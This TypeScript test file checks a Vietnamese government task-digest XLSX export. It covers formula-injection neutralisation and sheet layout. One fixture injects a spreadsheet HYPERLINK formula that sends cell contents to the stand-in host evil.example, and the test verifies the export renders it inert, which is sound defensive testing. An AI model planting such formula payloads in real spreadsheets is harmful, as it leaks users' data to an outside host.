import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { consolidate } from '#shared/digest/consolidate';
import { safeCell } from '#shared/digest/safe-cell';
import { renderXlsx } from '#shared/digest/xlsx';
import * as w from '#testkit/digest-world';

describe('safeCell', () => {
  it('neutralises text that a spreadsheet would read as a formula, and nothing else', () => {
    for (const s of ['=1+1', '+84 912', '-2+3', '@SUM(A1)', '\t=cmd', '\r=cmd']) expect(safeCell(s)).toBe(`'${s}`);
    for (const s of ['Bộ Công an', '1+1', 'a=b', '', '04/CT-TTg:B.2', "'=x"]) expect(safeCell(s)).toBe(s);
  });
});

async function workbook(): Promise<ExcelJS.Workbook> {
  const tasks = w.tasks();
  tasks[0] = { ...tasks[0], content: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")' };
  tasks[1] = { ...tasks[1], lead: { raw: '+Bộ Tư pháp', ids: [] } };
  const statuses = w.statuses().map((e) => (e.taskId === '04/CT-TTg:A.1' ? { ...e, result: '@SUM(1,2)' } : e));
  const d = consolidate({
    asOf: w.AS_OF, tasks, statuses, reports: w.reports(), reviewRows: [], unregisteredRows: [], contacts: w.contacts(),
    meeting: { id: 'm', title: 'Hội nghị sơ kết 6 tháng đầu năm 2024', date: '2024-06-20' }, period: w.PERIOD,
    agencies: w.tableNames, generatedAt: '2024-06-17T00:00:00Z',
  });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await renderXlsx(d)) as unknown as ArrayBuffer);
  return wb;
}

function texts(ws: ExcelJS.Worksheet): string[] {
  const out: string[] = [];
  ws.eachRow((row) => row.eachCell((c) => { if (typeof c.value === 'string') out.push(c.value); }));
  return out;
}

describe('the XLSX attachment', () => {
  it('has no formula anywhere and keeps injected text inert', async () => {
    const wb = await workbook();
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
      }));
    }
    const annex = texts(wb.getWorksheet('Phụ lục 01')!);
    expect(annex).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`);
    expect(annex).toContain("'+Bộ Tư pháp");
    expect(texts(wb.getWorksheet('Nhiệm vụ chậm muộn')!)).toContain("'@SUM(1,2)");
  });

  it('lays out Phụ lục 01: sections A/B/C, the result sub-columns, frozen headers, wrapped text, landscape fit to width', async () => {
    const ws = (await workbook()).getWorksheet('Phụ lục 01')!;
    const header = ws.getRow(5).values as unknown[];
    expect(header.slice(1, 10)).toEqual(['STT', 'Nội dung, nhiệm vụ', 'Văn bản chỉ đạo', 'Đơn vị thực hiện', 'Thời gian hoàn thành', 'Kết quả', 'Kết quả', 'Kết quả', 'Nguy cơ']);
    expect((ws.getRow(6).values as unknown[]).slice(6, 9)).toEqual(['Hoàn thành', 'Chưa hoàn thành', 'Thực hiện thường xuyên']);
    const sections: string[] = [];
    let marks = { done: 0, notDone: 0, recurring: 0 };
    ws.eachRow((row, n) => {
      if (n <= 6) return;
      const a = row.getCell(1).value;
      if (typeof a === 'string' && /^[ABC]$/.test(a)) sections.push(`${a} ${row.getCell(2).value}`);
      if (row.getCell(6).value === 'x') marks.done++;
      if (row.getCell(7).value === 'x') marks.notDone++;
      if (row.getCell(8).value === 'x') marks.recurring++;
    });
    expect(sections).toEqual([
      'A Nhiệm vụ chung của các Bộ, ngành, địa phương',
      'B Nhiệm vụ cụ thể của các Bộ, ngành',
      'C Nhiệm vụ của các địa phương',
    ]);
    // the fixture world: 2 completed, 6 overdue + 3 in progress, 1 recurring
    expect(marks).toEqual({ done: 2, notDone: 9, recurring: 1 });
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 6 });
    expect(ws.getRow(8).getCell(2).alignment?.wrapText).toBe(true);
    expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(ws.pageSetup.printTitlesRow).toBe('5:6');
  });

  it('lists the late tasks by group, as the secretariat does', async () => {
    const ws = (await workbook()).getWorksheet('Nhiệm vụ chậm muộn')!;
    const all = texts(ws);
    expect(all).toContain('Tính đến nay, còn 06 nhiệm vụ chậm muộn, trong đó');
    expect(all).toContain('01 nhiệm vụ chậm muộn từ năm 2022 chuyển sang');
    expect(all).toContain('01 nhiệm vụ chậm muộn từ năm 2023 chuyển sang');
    expect(all).toContain('02 nhiệm vụ chậm muộn từ tháng 04/2024');
    expect(all.filter((t) => t === '2022 chuyển sang')).toHaveLength(1);
    expect(all.filter((t) => t === '2023 chuyển sang')).toHaveLength(1);
    expect(all.filter((t) => t === 'Tháng 4/2024')).toHaveLength(2);
    expect(ws.views[0]).toMatchObject({ state: 'frozen' });
  });
});
